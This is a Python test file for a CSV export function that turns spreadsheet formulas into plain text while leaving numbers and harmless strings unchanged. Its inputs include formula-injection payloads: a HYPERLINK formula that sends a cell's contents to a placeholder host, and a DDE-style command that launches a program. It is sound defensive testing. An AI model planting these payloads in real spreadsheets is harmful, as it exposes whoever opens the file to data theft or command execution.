"""CSV: what a spreadsheet would run becomes text, and everything else is unchanged."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.csvtext import to_csv

DANGEROUS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def read(text, delimiter=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://x.example/?"&A1;"open")',
        *("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1"),
    ],
)
def test_a_formula_becomes_text(name):
    ((cell, after),) = read(to_csv([[name, 1]]))

    assert cell.startswith("'")
    assert cell.replace("'", "") == name.replace("'", "")
    assert after == "1"


@pytest.mark.parametrize("separator", ";\t|")
def test_neither_does_a_part_that_another_separator_would_cut_out(separator):
    text = to_csv([[f"a{separator}=1+1"]])

    assert not [cell for row in read(text, separator) for cell in row if cell.startswith("=")]


@pytest.mark.parametrize("number", [-1, -1.5, 1e-300, 0.1, -0.0, 5e-324, 10**20])
def test_numbers_stay_numbers(number):
    ((cell,),) = read(to_csv([[number]]))

    assert type(number)(cell) == number


@pytest.mark.parametrize("text", ["-1", "+1.5", "-.5e-3", "2026-03-01T10:00:00Z", "a-b", "a=b", ""])
def test_harmless_texts_stay_as_they_are(text):
    assert to_csv([["x", text]]) == f"x,{text}\r\n"


def test_what_is_not_known_is_an_empty_cell():
    assert to_csv([["x", None, 1]]) == "x,,1\r\n"


@given(st.lists(st.text(st.sampled_from(DANGEROUS + "a1;|'\" ,.e")), min_size=1, max_size=4))
def test_no_cell_of_any_text_is_a_formula(cells):
    (row,) = read(to_csv([["x", *cells]]))[:1]

    assert len(row) == len(cells) + 1
    for cell in row:
        assert cell[:1] not in DANGEROUS or not cell or float(cell) is not None
